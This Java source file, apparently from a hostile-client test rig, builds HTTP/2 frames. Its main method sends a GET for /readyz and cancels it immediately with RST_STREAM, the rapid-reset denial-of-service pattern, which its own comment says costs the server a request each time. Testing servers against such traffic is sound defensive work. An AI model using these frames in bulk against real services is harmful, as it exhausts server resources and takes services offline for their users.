package confab.rig.hostile;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;

/// Frames of HTTP/2, above all requests that are reset at once: they cost an edge a request each,
/// and whoever makes them never waits for an answer.
public final class Http2 {
  private static final int HEADERS = 1;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int END_OF_ALL = 0x5;

  private Http2() {}

  /// What a connection begins with.
  public static byte[] opening() {
    var bytes = new ByteArrayOutputStream();
    bytes.writeBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
    bytes.writeBytes(frame(SETTINGS, 0, 0, new byte[0]));
    return bytes.toByteArray();
  }

  /// GET https://x/readyz (RFC 7541 §6), and the reset of it.
  ///
  /// @param stream an odd number, greater than that of the former request
  public static byte[] resetRequest(int stream) {
    var fields = new ByteArrayOutputStream();
    fields.writeBytes(new byte[] {(byte) 0x82, (byte) 0x87, 0x04, 7});
    fields.writeBytes("/readyz".getBytes(StandardCharsets.US_ASCII));
    fields.writeBytes(new byte[] {0x01, 1, 'x'});
    var bytes = new ByteArrayOutputStream();
    bytes.writeBytes(frame(HEADERS, END_OF_ALL, stream, fields.toByteArray()));
    bytes.writeBytes(frame(RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8}));
    return bytes.toByteArray();
  }

  /// RFC 9113 §4.1.
  public static byte[] frame(int type, int flags, int stream, byte[] payload) {
    return ByteBuffer.allocate(9 + payload.length)
        .put((byte) 0)
        .putShort((short) payload.length)
        .put((byte) type)
        .put((byte) flags)
        .putInt(stream)
        .put(payload)
        .array();
  }
}
